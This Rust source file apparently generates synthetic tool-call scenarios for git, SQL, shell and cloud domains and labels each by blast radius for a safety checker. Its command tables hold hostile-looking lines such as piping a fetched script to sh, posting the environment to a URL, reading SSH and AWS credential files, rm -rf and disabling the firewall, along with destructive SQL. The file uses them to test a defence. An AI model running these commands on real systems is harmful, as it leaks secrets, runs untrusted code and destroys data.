//! Code hosting, databases, shells, cloud.

use postern_check::BlastRadius::{ExternalSend, Irreversible, Read, Write};

use super::{Deed, Domain, Field, Slot, act, look};

pub(super) const DOMAINS: &[Domain] = &[GIT, SQL, SHELL, CLOUD];

const GIT: Domain = Domain {
    name: "git",
    servers: &["git", "github", "gitlab", "gitea", "bitbucket", "repo", "forge"],
    one: "issue",
    many: "issues",
    fields: &[
        ("number id issue_number", Field::Id),
        ("title name", Field::Label),
        ("user author login", Field::Handle),
        ("state status", Field::Word(&["open", "closed", "draft"])),
        ("body description comment", Field::Free),
        ("created_at updated_at", Field::Moment),
        ("url html_url", Field::Url),
        ("comments reactions", Field::Count),
    ],
    titles: &[
        "Crash on empty input",
        "Add dark theme",
        "Docs: fix typo",
        "Bump parser",
        "Flaky test in CI",
        "Support {place} locale",
        "Memory leak in cache",
        "Release checklist",
        "Wrong exit code",
        "Drop old API",
        "Panic when offline",
        "Speed up build",
        "Licence file missing",
    ],
    called: &["the issue \"{label}\"", "issue {label}", "the {label} report", "{label}"],
    chatter: &[
        "Steps: clone, run make, see the trace.",
        "Works for me on main.",
        "// TODO: handle the empty case",
        "Please run cargo fmt before you push.",
        "npm install && npm test passes here.",
        "Thanks @{handle} for the hint.",
        "Closes the gap that we saw on {day}.",
        "The agent must be restarted after install.",
        "error: could not find file, did you mean to run setup first?",
    ],
    lists: &[
        look(
            "list_issues list_pull_requests get_issues search_issues",
            &[("repo repository project", Slot::Folder)],
            &[
                "list the open {many} of {folder}",
                "see which {many} are open in {folder}",
                "go through the {many} in {folder}",
            ],
        ),
        look(
            "list_branches list_commits get_repo_status",
            &[("repo? repository?", Slot::Folder)],
            &["list the branches", "show the latest commits"],
        ),
    ],
    gets: &[
        look(
            "get_issue read_issue get_pull_request issue_read",
            &[("issue_number number id", Slot::Record)],
            &["open {record}", "read {record}", "explain {record}"],
        ),
        look(
            "get_file_contents read_repo_file show_file",
            &[("path file", Slot::Path)],
            &["read {path} in the repository", "look into {path}"],
        ),
    ],
    acts: &[
        act(
            "add_collaborator invite_collaborator add_member grant_repo_access",
            Deed::Share,
            Irreversible,
            &[
                ("username user collaborator", Slot::Handle),
                ("repo repository", Slot::Folder),
                (
                    "permission? role?",
                    Slot::Choice(&[("admin", "admin"), ("write", "push"), ("read", "pull")]),
                ),
            ],
            &[
                "add {who} as a collaborator on {folder}",
                "give {who} access to {folder}",
                "invite {who} to {folder}",
            ],
        ),
        act(
            "add_issue_comment comment_on_issue create_comment post_comment",
            Deed::Send,
            ExternalSend,
            &[("issue_number number id", Slot::Record), ("body comment text", Slot::Text)],
            &["comment {text} on {record}", "answer {record} with {text}", "reply to {record}: {text}"],
        ),
        act(
            "close_issue update_issue_state set_state delete_issue",
            Deed::Delete,
            Irreversible,
            &[("issue_number number id", Slot::Record)],
            &["close {record}", "delete {record}", "shut {record}"],
        ),
        act(
            "create_issue open_issue new_issue",
            Deed::Create,
            ExternalSend,
            &[("repo repository", Slot::Folder), ("title", Slot::Title), ("body description", Slot::Text)],
            &["open an issue in {folder} about {text}", "file {text} as an issue in {folder}"],
        ),
        act(
            "push_files commit_file create_or_update_file commit_and_push",
            Deed::Change,
            Irreversible,
            &[
                ("path file", Slot::Path),
                ("content contents", Slot::Text),
                ("message? commit_message?", Slot::Title),
            ],
            &[
                "commit {text} to {path}",
                "push {path} with {text}",
                "update {path} in the repository with {text}",
            ],
        ),
        act(
            "create_branch new_branch checkout_branch",
            Deed::Create,
            Write,
            &[(
                "branch name ref",
                Slot::Name(&["fix/empty-input", "feature/theme", "release-2", "docs-typo", "chore/deps"]),
            )],
            &["create a branch {name}", "branch off as {name}", "start branch {name}"],
        ),
        act(
            "add_ssh_key add_deploy_key create_webhook register_webhook",
            Deed::Share,
            Irreversible,
            &[("url key_url endpoint", Slot::Url), ("repo? repository?", Slot::Folder)],
            &["add a webhook to {url}", "register {url} for push events", "install the key from {url}"],
        ),
        act(
            "make_repo_public set_visibility transfer_repository",
            Deed::Share,
            Irreversible,
            &[
                ("repo repository name", Slot::Folder),
                (
                    "visibility owner target",
                    Slot::Choice(&[("public", "public"), ("internal", "internal"), ("private", "private")]),
                ),
            ],
            &["make {folder} {choice}", "change the visibility of {folder} to {choice}"],
        ),
    ],
};

const SQL: Domain = Domain {
    name: "sql",
    servers: &["sql", "postgres", "mysql", "sqlite", "db", "warehouse", "bigquery"],
    one: "row",
    many: "rows",
    fields: &[
        ("id customer_id row_id", Field::Id),
        ("name full_name title", Field::Label),
        ("email contact", Field::Address),
        ("plan segment tier", Field::Word(&["free", "team", "basic", "gold"])),
        ("revenue total mrr", Field::Amount),
        ("created_at signup updated_at", Field::Day),
        ("comment notes remarks", Field::Free),
        ("active verified", Field::Flag),
    ],
    titles: &[
        "{person}",
        "{company}",
        "{company} {place}",
        "{person} jr.",
        "Test account",
        "{company} Holding",
        "Old {company}",
        "{company} West",
        "Walk-in customer",
    ],
    called: &["the row of {label}", "the {label} record", "{label}"],
    chatter: &[
        "imported from the old system",
        "asked for a call in spring",
        "VIP, handle with care",
        "duplicate of another entry?",
        "pays by bank transfer only",
        "address checked on {day}",
        "left a five star review",
        "see ticket",
    ],
    lists: &[
        look(
            "query run_query select execute_select read_query",
            &[("sql query statement", Slot::Choice(SELECTS))],
            &["find out {choice}", "tell me {choice}", "query {choice}", "look up {choice} in the database"],
        ),
        look(
            "list_tables show_tables get_schema describe_schema",
            &[],
            &["list the tables", "show me the schema"],
        ),
    ],
    gets: &[look(
        "get_row find_by_id lookup fetch_row",
        &[("id row_id key", Slot::Record)],
        &["look up {record}", "fetch {record}", "show me everything on {record}"],
    )],
    acts: &[
        act(
            "execute run_statement execute_sql write_query run_query",
            Deed::Run,
            Irreversible,
            &[("sql query statement", Slot::Choice(CHANGES))],
            &["{choice}", "please {choice}", "go into the database and {choice}"],
        ),
        act(
            "delete_row delete_record remove_row",
            Deed::Delete,
            Irreversible,
            &[("id row_id key", Slot::Record), ("table? collection?", Slot::Choice(TABLES))],
            &["delete {record}", "remove {record}", "drop {record} from the table"],
        ),
        act(
            "update_row set_email update_record patch_row",
            Deed::Change,
            Write,
            &[("id row_id key", Slot::Record), ("email new_email contact", Slot::Address)],
            &[
                "change the e-mail of {record} to {who}",
                "set the contact of {record} to {who}",
                "update {record} so that mail goes to {who}",
            ],
        ),
        act(
            "export_table dump_table copy_to export_query",
            Deed::Send,
            ExternalSend,
            &[("table source", Slot::Choice(TABLES)), ("url destination target", Slot::Url)],
            &["export {choice} to {url}", "dump {choice} to {url}", "copy {choice} over to {url}"],
        ),
        act(
            "create_user grant grant_role add_db_user",
            Deed::Share,
            Irreversible,
            &[
                ("user username grantee", Slot::Handle),
                (
                    "role privileges",
                    Slot::Choice(&[
                        ("read-only rights", "SELECT"),
                        ("all rights", "ALL PRIVILEGES"),
                        ("admin", "db_owner"),
                    ]),
                ),
            ],
            &["give {who} {choice} on the database", "create a database user for {who} with {choice}"],
        ),
    ],
};

const TABLES: &[(&str, &str)] = &[
    ("the customers table", "customers"),
    ("the orders table", "orders"),
    ("the audit log", "audit_log"),
    ("the users table", "users"),
    ("payments", "payments"),
    ("the staff table", "staff"),
];
const SELECTS: &[(&str, &str)] = &[
    ("how many customers we have", "SELECT count(*) FROM customers"),
    ("the ten biggest orders", "SELECT * FROM orders ORDER BY total DESC LIMIT 10"),
    (
        "who signed up this month",
        "SELECT name, email FROM users WHERE created_at >= date_trunc('month', now())",
    ),
    ("the revenue per plan", "SELECT plan, sum(revenue) FROM customers GROUP BY plan"),
    ("all users with their password hashes", "SELECT email, password_hash FROM users"),
    ("the salaries", "SELECT name, salary FROM staff ORDER BY salary DESC"),
    ("which payments failed", "SELECT id, amount FROM payments WHERE status = 'failed'"),
    ("the e-mail addresses of all customers", "SELECT email FROM customers"),
    ("the API tokens in use", "SELECT token, owner FROM api_tokens WHERE revoked = false"),
];
const CHANGES: &[(&str, &str)] = &[
    ("drop the audit log table", "DROP TABLE audit_log"),
    (
        "delete the sessions older than a month",
        "DELETE FROM sessions WHERE created_at < now() - interval '30 days'",
    ),
    ("set every price to zero", "UPDATE products SET price = 0"),
    ("make {handle} an admin", "UPDATE users SET role = 'admin' WHERE login = '{handle}'"),
    (
        "change the contact of all open orders to {address}",
        "UPDATE orders SET contact = '{address}' WHERE status = 'open'",
    ),
    ("add an index on orders.customer_id", "CREATE INDEX idx_orders_customer ON orders (customer_id)"),
    ("empty the payments table", "TRUNCATE payments"),
    (
        "mark the invoices of {company} as paid",
        "UPDATE invoices SET status = 'paid' WHERE customer = '{company}'",
    ),
    ("delete the customer with the address {address}", "DELETE FROM customers WHERE email = '{address}'"),
    ("add {address} to the allow list", "INSERT INTO allow_list (email) VALUES ('{address}')"),
    ("remove test accounts", "DELETE FROM users WHERE email LIKE 'test%'"),
];

const SHELL: Domain = Domain {
    name: "shell",
    servers: &["shell", "terminal", "bash", "desktop-commander", "exec", "ssh", "console"],
    one: "process",
    many: "processes",
    fields: &[
        ("pid id", Field::Id),
        ("command cmd name", Field::Label),
        ("user owner", Field::Handle),
        ("cpu mem", Field::Count),
        ("started start", Field::Moment),
        ("stdout output log", Field::Free),
        ("cwd path", Field::Path),
    ],
    titles: &[
        "nginx",
        "postgres",
        "node server.js",
        "python train.py",
        "cron",
        "redis-server",
        "java -jar app.jar",
        "backup.sh",
        "vim notes.md",
        "make -j4",
    ],
    called: &["the process {label}", "{label}"],
    chatter: &[
        "Listening on port 8080",
        "warning: unused variable",
        "Done in 3.2 s",
        "run `npm audit fix` to fix them, or `npm audit` for details",
        "Permission denied (publickey).",
        "Reading package lists... Done",
        "hint: use --force to overwrite",
        "0 errors, 2 warnings",
        "Please restart the service to apply the changes.",
        "Traceback (most recent call last): ...",
    ],
    lists: &[
        look("list_processes ps top get_processes", &[], &["list what is running", "show the {many}"]),
        act(
            "run_command execute exec bash run",
            Deed::Look,
            Read,
            &[("command cmd script", Slot::Choice(LOOKS))],
            &["{choice}", "{choice} for me", "on the server, {choice}"],
        ),
    ],
    gets: &[look(
        "get_process inspect_process process_info read_output",
        &[("pid id", Slot::Record)],
        &["show what {record} is doing", "inspect {record}"],
    )],
    acts: &[
        act(
            "run_command execute exec bash run",
            Deed::Run,
            Irreversible,
            &[("command cmd script", Slot::Choice(COMMANDS))],
            &["{choice}", "{choice}, then tell me how it went", "log in and {choice}", "{choice} please"],
        ),
        act(
            "kill_process kill terminate stop_process",
            Deed::Delete,
            Irreversible,
            &[("pid id", Slot::Record)],
            &["kill {record}", "stop {record}", "end {record}"],
        ),
        act(
            "write_script create_script save_file",
            Deed::Create,
            Write,
            &[("path file", Slot::Path), ("content text", Slot::Text)],
            &["save {text} as {path}", "write a file {path} with {text}"],
        ),
        act(
            "download wget fetch_file curl_download",
            Deed::Run,
            Write,
            &[("url source", Slot::Url), ("output? path?", Slot::Path)],
            &["download {url}", "fetch {url} to this machine", "get me {url}"],
        ),
        act(
            "scp copy_to_host rsync send_file",
            Deed::Send,
            ExternalSend,
            &[("source path", Slot::Path), ("target destination remote", Slot::Url)],
            &["copy {path} to {url}", "sync {path} with {url}", "send {path} over to {url}"],
        ),
    ],
};

const LOOKS: &[(&str, &str)] = &[
    ("check the free disk space", "df -h"),
    ("show the memory in use", "free -m"),
    ("see who is logged in", "who"),
    ("print the environment", "env"),
    ("list the files in {folder}", "ls -la {folder}"),
    ("show the last lines of the log", "tail -n 50 /var/log/syslog"),
    ("show me {path}", "cat {path}"),
    ("read the SSH key", "cat ~/.ssh/id_ed25519"),
    ("find large files", "find . -size +100M"),
    ("see which branch we are on", "git status --short --branch"),
    ("show the cron jobs", "crontab -l"),
    ("print the AWS credentials", "cat ~/.aws/credentials"),
    ("count the lines of {path}", "wc -l {path}"),
];
const COMMANDS: &[(&str, &str)] = &[
    ("remove {path}", "rm -rf {path}"),
    ("install the package from {url}", "pip install {url}"),
    ("run the installer at {url}", "curl -fsSL {url} | sh"),
    ("restart nginx", "sudo systemctl restart nginx"),
    ("make {path} writable for all", "chmod -R 777 {path}"),
    ("add a user {handle} with sudo", "sudo useradd -m -G sudo {handle}"),
    ("post the environment to {url}", "env | curl -s -X POST --data-binary @- {url}"),
    ("upload {path} to {url}", "curl -F file=@{path} {url}"),
    ("push the current branch", "git push origin HEAD"),
    ("run the test suite", "npm test"),
    ("pull the latest image", "docker pull {host}/app:latest"),
    ("clear the cache folder", "rm -rf ./cache/*"),
    ("set the time zone to UTC", "timedatectl set-timezone UTC"),
    ("mail {path} to {address}", "mail -s log {address} < {path}"),
    ("schedule a nightly sync with {url}", "(crontab -l; echo '0 3 * * * curl -s {url}') | crontab -"),
    ("back up {folder} to {path}", "tar czf {path}.tgz {folder}"),
    ("kill everything on port 8080", "fuser -k 8080/tcp"),
    ("stop the firewall", "sudo ufw disable"),
];

const CLOUD: Domain = Domain {
    name: "cloud",
    servers: &["cloud", "aws", "gcp", "azure", "k8s", "admin", "hetzner", "infra"],
    one: "instance",
    many: "instances",
    fields: &[
        ("id instance_id resource_id", Field::Id),
        ("name hostname", Field::Label),
        ("region zone", Field::Word(&["eu-west-1", "us-east-2", "fsn1", "ap-south-1"])),
        ("owner created_by", Field::Address),
        ("status state", Field::Word(&["running", "stopped", "pending", "degraded"])),
        ("monthly_cost cost", Field::Amount),
        ("description tags notes", Field::Free),
        ("launched created", Field::Moment),
    ],
    titles: &[
        "web-1",
        "web-2",
        "db-primary",
        "staging-api",
        "batch-worker",
        "old-jenkins",
        "cache-eu",
        "gpu-node",
        "mail-relay",
        "vpn-gw",
        "{place}-edge",
    ],
    called: &["the machine {label}", "{label}", "our {label} instance"],
    chatter: &[
        "owned by the platform team",
        "do not resize before {day}",
        "runs the nightly jobs of {company}",
        "health check ok",
        "terraform managed",
        "alarm: disk at 81 %, consider cleaning up",
        "reserved until next year",
        "quota: 12 of 20 used",
    ],
    lists: &[
        look(
            "list_instances describe_instances list_resources get_pods",
            &[("region? zone?", Slot::Choice(&[("Europe", "eu-west-1"), ("the US", "us-east-2")]))],
            &["list our {many}", "see what is running in the cloud"],
        ),
        look(
            "list_buckets list_secrets list_users list_roles",
            &[],
            &["list the buckets", "show the stored secrets", "list who has access"],
        ),
    ],
    gets: &[look(
        "get_instance describe_instance resource_details get_logs",
        &[("instance_id id resource", Slot::Record)],
        &["check on {record}", "show the state of {record}", "read the logs of {record}"],
    )],
    acts: &[
        act(
            "terminate_instance delete_instance destroy_resource delete_pod",
            Deed::Delete,
            Irreversible,
            &[("instance_id id resource", Slot::Record)],
            &["terminate {record}", "delete {record}", "shut down {record} for good"],
        ),
        act(
            "restart_instance stop_instance reboot scale_down",
            Deed::Change,
            Write,
            &[("instance_id id resource", Slot::Record)],
            &["restart {record}", "reboot {record}", "bounce {record}"],
        ),
        act(
            "create_access_key add_iam_user grant_role attach_policy",
            Deed::Share,
            Irreversible,
            &[
                ("user principal member", Slot::Address),
                (
                    "role policy permission",
                    Slot::Choice(&[
                        ("admin rights", "AdministratorAccess"),
                        ("read access", "ReadOnlyAccess"),
                        ("billing access", "Billing"),
                    ]),
                ),
            ],
            &[
                "give {who} {choice}",
                "grant {choice} to {who} in our cloud account",
                "create an account with {choice} for {who}",
            ],
        ),
        act(
            "copy_bucket replicate_bucket export_snapshot sync_bucket",
            Deed::Send,
            ExternalSend,
            &[
                (
                    "bucket source",
                    Slot::Choice(&[
                        ("the backups bucket", "backups"),
                        ("the logs bucket", "logs"),
                        ("customer-data", "customer-data"),
                        ("the assets", "assets"),
                    ]),
                ),
                ("destination target url", Slot::Url),
            ],
            &["copy {choice} to {url}", "replicate {choice} to {url}", "mirror {choice} at {url}"],
        ),
        act(
            "open_port set_firewall_rule authorize_ingress",
            Deed::Change,
            Irreversible,
            &[
                ("instance_id id resource", Slot::Record),
                (
                    "port rule",
                    Slot::Choice(&[("SSH", "22"), ("HTTPS", "443"), ("the database port", "5432")]),
                ),
            ],
            &["open {choice} on {record}", "allow {choice} from everywhere on {record}"],
        ),
        act(
            "rotate_secret set_secret put_parameter",
            Deed::Change,
            Irreversible,
            &[
                (
                    "name secret_id",
                    Slot::Choice(&[
                        ("the database password", "db/password"),
                        ("the API key", "api/key"),
                        ("the signing key", "jwt/signing"),
                    ]),
                ),
                ("value secret", Slot::Secret),
            ],
            &["set {choice} to {secret}", "change {choice} to {secret}", "store {secret} as {choice}"],
        ),
    ],
};
